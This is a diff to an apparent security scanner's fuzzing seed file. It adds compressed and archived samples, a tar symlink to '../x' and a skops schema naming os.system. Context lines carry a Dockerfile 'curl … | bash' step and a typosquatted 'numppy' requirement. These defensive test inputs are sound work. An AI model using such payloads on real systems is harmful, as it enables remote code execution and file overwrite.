@@ -1,11 +1,14 @@
 /** One well-formed file of each format, small, with something in it to find: what fuzzing starts from. */
+import { deflateSync, gzipSync, zstdCompressSync } from 'node:zlib';
 import { concat, u32, utf8 } from '#formats/test-files/bytes';
 import { makeCheckpoint } from '#formats/test-files/checkpoint';
 import { makeTflite, operator, operatorCode } from '#formats/test-files/flatbuffer';
 import { makeGguf } from '#formats/test-files/gguf';
 import { block, entry, initializer, makeOnnx, node } from '#formats/test-files/onnx';
+import { packed } from '#formats/test-files/packed';
 import { op, plain, reduce, stream } from '#formats/test-files/pickle';
 import { makeSafetensors } from '#formats/test-files/safetensors';
+import { makeTar } from '#formats/test-files/tar';
 import { benignSavedModel, callAttribute, nodeDef, stringConst } from '#formats/test-files/tensorflow';
 import { makeZip } from '#formats/test-files/zip';
 
@@ -167,4 +170,28 @@ export const fuzzSamples: readonly (readonly [name: string, bytes: Uint8Array])[
   ],
   ['requirements', utf8('torch==1.12.0\nnumppy>=1.0\n--extra-index-url https://x/simple\ngit+https://x/y.git\n')],
   ['dockerfile', utf8('FROM python:3.11\nRUN curl https://x/y.sh | bash \\\n && pip install torch numpy\n')],
+  [
+    'tar',
+    makeTar([
+      { name: 'a', pax: { path: 'b', size: String(attack.length) }, data: attack },
+      { name: 'l', type: '2', linkName: '../x' },
+    ]),
+  ],
+  ['gzip of two members', concat(gzipSync(attack), gzipSync(utf8('words')))],
+  ['zlib', new Uint8Array(deflateSync(attack))],
+  ['Zstandard', new Uint8Array(zstdCompressSync(concat(attack, utf8('words '.repeat(40)))))],
+  ['bzip2', packed.bzip2],
+  ['xz', packed.xz],
+  ['LZMA', packed.lzma],
+  ['LZ4', packed.lz4],
+  ['legacy LZ4', packed.lz4Legacy],
+  ['7-Zip', packed.sevenZip],
+  ['7-Zip without packing', packed.sevenZipCopy],
+  ['7-Zip with BCJ2', packed.sevenZipBcj2],
+  ['zip by bzip2', packed.zipBzip2],
+  ['zip by LZMA', packed.zipLzma],
+  [
+    'skops',
+    makeZip([{ name: 'schema.json', data: utf8('{"__class__":"system","__module__":"os","__loader__":"OperatorFuncNode","protocol":2}') }]),
+  ],
 ];
